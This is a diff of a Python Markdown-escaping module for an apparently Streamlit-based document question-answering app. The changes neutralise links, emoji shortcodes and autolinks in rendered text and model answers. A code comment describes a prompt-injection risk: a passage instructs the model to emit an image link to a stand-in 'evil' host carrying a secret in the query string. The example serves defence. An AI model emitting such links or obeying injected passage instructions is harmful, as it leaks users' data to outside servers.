@@ -35,34 +35,47 @@ _MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:^&=\"'%@])")
 _LEADING_SPACE = re.compile(r"^[ \t]+", re.MULTILINE)
 _BLANK_LINES = re.compile(r"\n\s*\n\s*")
 _CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+# Streamlit turns URLs, "www." names and e-mail addresses into links, and ":name:" / ":color[...]" into
+# emoji and coloured text, AFTER backslash escapes are resolved; an invisible word joiner breaks them.
+WORD_JOINER = "\u2060"
+_AUTOLINK_PARTS = re.compile(r"(?<=:)|(?=@)|(?<=\bwww)(?=\.)", re.IGNORECASE)
+
+
+def _defuse(text: str) -> str:
+    return _AUTOLINK_PARTS.sub(WORD_JOINER, text)
 
 
 def escape_markdown(text: str) -> str:
-    """Document text as Markdown that renders exactly as the text: no links, images, HTML or formatting.
-
-    Paragraph breaks (blank lines) are kept; single line breaks become spaces as in any paragraph.
-    """
-    text = _CONTROL.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
+    """Document text as Markdown that renders exactly as the text: no links, images, HTML, emoji
+    shortcodes or formatting. Paragraph breaks (blank lines) are kept; single line breaks become
+    spaces, as in any paragraph."""
+    text = _CONTROL.sub("", str(text).replace("\r\n", "\n").replace("\r", "\n"))
     text = _LEADING_SPACE.sub("", text)  # four spaces would start a code block
     text = _BLANK_LINES.sub("\n\n", text.strip())
-    return _MD_SPECIAL.sub(r"\\\1", text)
+    return _MD_SPECIAL.sub(r"\\\1", _defuse(text))
+
+
+_CODE_SPAN = re.compile(r"(`[^`\n]+`)")
+
+
+def escape_message(text: str) -> str:
+    """``escape_markdown`` for the app's own messages, which mark commands as `code`: code spans are
+    kept (Markdown renders their content literally), everything else is escaped."""
+    parts = _CODE_SPAN.split(str(text))
+    return "".join(part if i % 2 else escape_markdown(part) for i, part in enumerate(parts))
 
 
 # In generated answers formatting (lists, bold) is kept, but nothing may fetch or link anywhere:
 # a passage can instruct the model to emit ![x](https://evil/?q=secret), and the browser would fetch it.
 _ANSWER_SPECIAL = re.compile(r"([\[\]<>\\])")
-_SCHEME = re.compile(r"\b([a-zA-Z][a-zA-Z0-9+.-]{1,15}):(?=//|[^\s\d])")
-_WWW = re.compile(r"\b([wW]{3})\.")
-_EMAIL_AT = re.compile(r"(?<=\w)@(?=\w)")
+_ANSWER_LINKISH = re.compile(r"(?<=:)(?=/)|(?<=\w)(?=@\w)|(?<=\bwww)(?=\.)", re.IGNORECASE)
 
 
 def safe_answer_markdown(text: str) -> str:
     """An answer as Markdown with formatting kept but links, images, autolinks and HTML made literal."""
     text = _CONTROL.sub("", text)
     text = _ANSWER_SPECIAL.sub(r"\\\1", text)
-    text = _SCHEME.sub(r"\1\\:", text)
-    text = _WWW.sub(r"\1\\.", text)
-    return _EMAIL_AT.sub(r"\\@", text)
+    return _ANSWER_LINKISH.sub(WORD_JOINER, text)
 
 
 def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
@@ -81,7 +94,8 @@ def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
 
 # -- finding the part of a passage an answer relies on -------------------------------------------------
 
-_SENTENCE = re.compile(r"[^\n.!?。！？]*(?:[.!?。！？]+|\n\n|$)", re.S)
+# A sentence ends at . ! ? (followed by a space or the end: not "3.1" or "e.g.x"), or at a blank line.
+_SENTENCE = re.compile(r"(?:[^.!?。！？\n]|[.!?](?![\s]|$)|\n(?!\s*\n))+(?:[.!?]+(?=\s|$)|[。！？]+|(?=\n\s*\n)|$)")
 _WORD = re.compile(r"\w+", re.UNICODE)
 _HANGUL = re.compile(r"[\uac00-\ud7a3]")
 _STOP = frozenset(
@@ -157,7 +171,7 @@ def passage_markdown(passage: str, span: tuple[int, int] | None, *, mark: str = 
     parts = []
     if before.strip():
         parts.append(escape_markdown(before) + (" " if not before.endswith("\n\n") else "\n\n"))
-    parts.append(f":{mark}[{escape_markdown(middle)}]")
+    parts.append(f":{mark}[{escape_markdown(' '.join(middle.split()))}]")  # one line: a directive's text
     if after.strip():
         parts.append(("\n\n" if after.startswith("\n\n") else " ") + escape_markdown(after))
     return "".join(parts)
@@ -167,7 +181,7 @@ def passage_markdown(passage: str, span: tuple[int, int] | None, *, mark: str = 
 
 
 def pages_label(source: dict) -> str:
-    """"4" or "4–5" (1-based) for a source dict."""
+    """ "4" or "4–5" (1-based) for a source dict."""
     return page_ref(int(source.get("page", 0)), source.get("page_end")).split(" ", 1)[1]
 
 
@@ -210,7 +224,7 @@ def user_message(text: str) -> dict:
 
 
 def stored_message(message: StoredMessage, question: str = "") -> dict:
-    """A session-state message for one reopened from the history (fewer details were stored)."""
+    """A session-state message for one reopened from the history."""
     if message.role == "user":
         return {"id": f"h{message.id}", "role": "user", "content": message.content}
     return {
@@ -221,13 +235,13 @@ def stored_message(message: StoredMessage, question: str = "") -> dict:
         "standalone_query": message.standalone_query or question,
         "mode": message.mode or "answer",
         "sources": [dict(s) for s in message.sources],
-        "error": None,
-        "error_kind": None,
-        "incomplete": False,
-        "uncited": False,
-        "dropped_sources": 0,
-        "model": None,
-        "notes": [],
+        "error": message.meta.get("error"),
+        "error_kind": message.meta.get("error_kind"),
+        "incomplete": bool(message.meta.get("incomplete")),
+        "uncited": bool(message.meta.get("uncited")),
+        "dropped_sources": int(message.meta.get("dropped_sources") or 0),
+        "model": message.meta.get("model"),
+        "notes": list(message.meta.get("notes") or []),
     }
 
 
